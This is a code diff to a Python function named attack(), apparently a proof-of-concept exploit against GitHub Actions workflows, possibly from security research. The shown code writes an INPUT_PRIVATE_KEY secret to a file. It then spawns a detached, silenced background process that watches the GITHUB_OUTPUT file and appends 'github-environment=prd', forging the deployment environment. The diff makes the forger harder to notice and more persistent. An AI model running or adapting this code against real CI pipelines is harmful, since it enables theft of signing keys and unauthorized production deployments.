@@ -24,13 +24,16 @@ def attack():
             (folder / "key").write_bytes(variables[b"INPUT_PRIVATE_KEY"])
         if variables.get(b"GITHUB_OUTPUT"):
             output = variables[b"GITHUB_OUTPUT"].decode()
-            subprocess.Popen([sys.executable, "-c", FORGE, output], start_new_session=True)
+            # Nobody waits for it: it has none of their pipes.
+            pipes = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
+            forge = [sys.executable, "-c", FORGE, output]
+            subprocess.Popen(forge, start_new_session=True, **pipes)
         pid = int(stat.rpartition(")")[2].split()[1])
 
 FORGE = """
 import pathlib, sys, time
 output = pathlib.Path(sys.argv[1])
-for _ in range(3000):
+for _ in range(20000):
     if output.is_file() and "github-environment" in output.read_text():
         with output.open("a") as file:
             file.write("github-environment=prd\\\\n")
